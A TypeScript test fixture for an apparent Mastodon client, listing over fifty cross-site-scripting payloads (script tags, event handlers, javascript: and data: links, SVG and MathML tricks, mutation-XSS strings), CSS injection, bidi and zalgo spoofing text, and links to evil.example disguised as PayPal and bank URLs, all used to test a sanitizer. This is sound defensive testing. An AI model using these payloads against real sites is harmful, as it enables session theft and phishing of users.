// Hostile remote content a Mastodon server may send: HTML for bios, profile field values and posts,
// plain text (with :shortcodes:) for display names and field names. The fake seeds accounts with
// it, the sanitizer tests run every entry, and the e2e XSS test renders them in Chromium with a
// tripwire planted. Each payload, if it ever executed, calls `window.__xss(<id>)`.

export type HostileTarget = 'bio' | 'post' | 'field' | 'name';

export interface HostilePayload {
  id: string;
  target: HostileTarget;
  payload: string;
}

const trip = (id: string) => `__xss('${id}')`;

const HTML_PAYLOADS: Array<[string, (t: string) => string]> = [
  // script tags
  ['script-plain', (t) => `<p>hi</p><script>${t}</script>`],
  ['script-uppercase', (t) => `<SCRIPT>${t}</SCRIPT><p>ok</p>`],
  ['script-src', () => `<script src="https://evil.example/x.js"></script>`],
  ['script-nested-broken', (t) => `<scr<script>ipt>${t}</scr</script>ipt>`],
  ['script-in-p-unclosed', (t) => `<p>bio<script>${t}`],
  ['script-comment-break', (t) => `<!--<script>-->${t}<!--</script>-->`],
  ['script-cdata', (t) => `<![CDATA[<script>${t}</script>]]>`],
  // event handlers
  ['img-onerror', (t) => `<img src=x onerror="${t}">`],
  ['p-onclick', (t) => `<p onclick="${t}">click</p>`],
  ['a-onmouseover', (t) => `<a href="https://ok.example" onmouseover="${t}">hover</a>`],
  ['span-onfocus-autofocus', (t) => `<span class="mention" tabindex=0 autofocus onfocus="${t}">x</span>`],
  ['body-onload', (t) => `<body onload="${t}">`],
  ['details-ontoggle', (t) => `<details open ontoggle="${t}"><summary>x</summary></details>`],
  ['video-onerror', (t) => `<video><source onerror="${t}"></video>`],
  ['input-onfocus', (t) => `<input autofocus onfocus="${t}">`],
  ['marquee-onstart', (t) => `<marquee onstart="${t}">x</marquee>`],
  ['handler-no-quotes', (t) => `<p/onmouseover=${t.replace(/'/g, '')}>x</p>`],
  ['handler-entity-encoded', () => `<img src=x onerror="&#95;&#95;xss('entity')">`],
  // javascript:, data:, vbscript: links
  ['a-javascript', (t) => `<a href="javascript:${t}">link</a>`],
  ['a-javascript-mixed-case', (t) => `<a href="JaVaScRiPt:${t}">link</a>`],
  ['a-javascript-entities', () => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss('ent')">x</a>`],
  ['a-javascript-tab', (t) => `<a href="java\tscript:${t}">x</a>`],
  ['a-javascript-newline', (t) => `<a href="java&#x0A;script:${t}">x</a>`],
  ['a-javascript-leading-space', (t) => `<a href="  javascript:${t}">x</a>`],
  ['a-data-html', () => `<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcygnZGF0YScpPC9zY3JpcHQ+">x</a>`],
  ['a-vbscript', () => `<a href="vbscript:msgbox(1)">x</a>`],
  ['a-relative', () => `<a href="/settings/delete">x</a>`],
  ['a-protocol-relative', () => `<a href="//evil.example/x">x</a>`],
  ['iframe-src-javascript', (t) => `<iframe src="javascript:${t}"></iframe>`],
  ['iframe-srcdoc', (t) => `<iframe srcdoc="<script>parent.${t}</script>"></iframe>`],
  ['object-data', () => `<object data="javascript:__xss('object')"></object>`],
  ['embed-src', () => `<embed src="data:text/html,<script>__xss('embed')</script>">`],
  ['form-action', (t) => `<form action="javascript:${t}"><button>go</button></form>`],
  ['button-formaction', (t) => `<button formaction="javascript:${t}">x</button>`],
  ['meta-refresh', () => `<meta http-equiv="refresh" content="0;url=javascript:__xss('meta')">`],
  ['base-href', () => `<base href="javascript:/"><a href="x">x</a>`],
  // SVG and MathML
  ['svg-onload', (t) => `<svg onload="${t}"></svg>`],
  ['svg-script', (t) => `<svg><script>${t}</script></svg>`],
  ['svg-animate-href', (t) => `<svg><a><animate attributeName="href" values="javascript:${t}"/><text y="20">x</text></a></svg>`],
  ['svg-use-data', () => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss(1)'/></svg>#x"/></svg>`],
  ['svg-foreignobject', (t) => `<svg><foreignObject><iframe src="javascript:${t}"></iframe></foreignObject></svg>`],
  ['math-href', (t) => `<math><mtext><a xlink:href="javascript:${t}">x</a></mtext></math>`],
  ['math-maction', (t) => `<math><maction actiontype="statusline" xlink:href="javascript:${t}">x</maction></math>`],
  // CSS injection
  ['style-tag', () => `<style>body{background:url("https://evil.example/track")}</style><p>x</p>`],
  ['style-attr-expression', () => `<p style="width:expression(__xss('expr'))">x</p>`],
  ['style-attr-url', () => `<span style="background:url(javascript:__xss('css'))">x</span>`],
  ['link-stylesheet', () => `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ['class-smuggling', () => `<span class="mention invisible fixed inset-0 z-50">overlay</span>`],
  // broken markup and mXSS classics
  ['mxss-noscript', (t) => `<noscript><p title="</noscript><img src=x onerror=${t.replace(/'/g, '')}>">`],
  ['mxss-math-style', () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss(1)&gt;">`],
  ['mxss-form-math', () => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(2)>`],
  ['mxss-svg-p-style', () => `<svg></p><style><a id="</style><img src=1 onerror=__xss(3)>">`],
  ['mxss-textarea', (t) => `<textarea></textarea><img src=x onerror="${t}">`],
  ['mxss-title', (t) => `<title><img src=x onerror="${t}"></title>`],
  ['mxss-xmp', (t) => `<xmp><p title="</xmp><img src=x onerror=${t.replace(/'/g, '')}>">`],
  ['unclosed-attr', (t) => `<a href="https://ok.example onclick=${t}>x`],
  ['null-byte-tag', (t) => `<scr\u0000ipt>${t}</scr\u0000ipt>`],
  ['template-tag', (t) => `<template><script>${t}</script></template>`],
  ['deep-nesting', (t) => `${'<span>'.repeat(300)}<img src=x onerror="${t}">${'</span>'.repeat(300)}`],
];

const NAME_PAYLOADS: Array<[string, string]> = [
  ['name-script', `<script>__xss('name-script')</script>`],
  ['name-img', `<img src=x onerror=__xss('name-img')>`],
  ['name-shortcode-unknown', `:blobcat: <b>bold</b>`],
  ['name-shortcode-known', `Ada :verified: Lovelace`],
  ['name-bidi-override', `\u202eadmin\u202c`],
  ['name-zero-width', `ad\u200bmin`],
  ['name-control-chars', `Ada\u0000\u0007\u001b[31m`],
  ['name-very-long', `${'A'.repeat(2000)}<svg onload=__xss('long')>`],
];

/**
 * Text that runs nothing but attacks the layout and what the reader sees: words far wider than any
 * column, bidirectional overrides and isolates (`‮gnp.exe‬` reads as "exe.png"), link text naming
 * another host than the link goes to, and zalgo (stacks of combining marks). Each carries the word
 * `wideprobe`, so a search lists them all.
 */
const ZALGO = (base: string) => Array.from(base, (c) => c + '\u0301\u0310\u0352\u0357\u035b\u0363\u0364\u0365\u036b\u0489'.repeat(3)).join('');
const LAYOUT_PAYLOADS: Array<[string, HostileTarget, string]> = [
  ['layout-long-name', 'name', `wideprobe ${'W'.repeat(240)}`],
  ['layout-bidi-name', 'name', `wideprobe \u202egnp.exe\u202c safe.txt`],
  ['layout-isolate-name', 'name', `wideprobe \u2067\u202dunclosed \u2066isolates`],
  ['layout-zalgo-name', 'name', `wideprobe ${ZALGO('Zalgo')}`],
  ['layout-long-bio', 'bio', `<p>wideprobe ${'x'.repeat(400)}</p><p><a href="https://example.com/${'y'.repeat(300)}">https://example.com/${'y'.repeat(300)}</a></p>`],
  ['layout-bidi-bio', 'bio', `<p>wideprobe \u202egnp.exe\u202c safe.txt \u202bembedded\u202a \u2068first-strong</p>`],
  ['layout-zalgo-bio', 'bio', `<p>wideprobe ${ZALGO('he comes')}</p>`],
  ['layout-spoofed-link-bio', 'bio', `<p>wideprobe <a href="https://evil.example/login">https://paypal.com/login</a> <a href="https://evil.example/">paypal.com</a></p>`],
  ['layout-long-post', 'post', `<p>wideprobe ${'z'.repeat(500)} \u202etxt.exe\u202c</p>`],
  ['layout-zalgo-post', 'post', `<p>wideprobe ${ZALGO('post')}</p>`],
  ['layout-long-field', 'field', `<a href="https://evil.example/">\u202ehttps://bank.example/${'q'.repeat(200)}</a>`],
];

/** Every hostile payload, with stable ids. More than 50, across all four targets. */
export function hostilePayloads(): HostilePayload[] {
  const out: HostilePayload[] = [];
  HTML_PAYLOADS.forEach(([name, make], i) => {
    const target: HostileTarget = i % 3 === 0 ? 'bio' : i % 3 === 1 ? 'post' : 'field';
    out.push({ id: name, target, payload: make(trip(name)) });
  });
  for (const [name, payload] of NAME_PAYLOADS) out.push({ id: name, target: 'name', payload });
  for (const [name, target, payload] of LAYOUT_PAYLOADS) out.push({ id: name, target, payload });
  return out;
}

/** The layout and spoofing payloads only (long words, bidi controls, zalgo, lying links). */
export function isLayoutPayload(payload: HostilePayload): boolean {
  return payload.id.startsWith('layout-');
}

/** The custom emoji the fake lists for accounts with hostile names. */
export const HOSTILE_EMOJIS = [
  { shortcode: 'verified', url: 'https://emoji.example/verified.png', static_url: 'https://emoji.example/verified.png', visible_in_picker: true },
  { shortcode: 'evil', url: 'javascript:__xss("emoji")', static_url: 'javascript:__xss("emoji")', visible_in_picker: true },
];
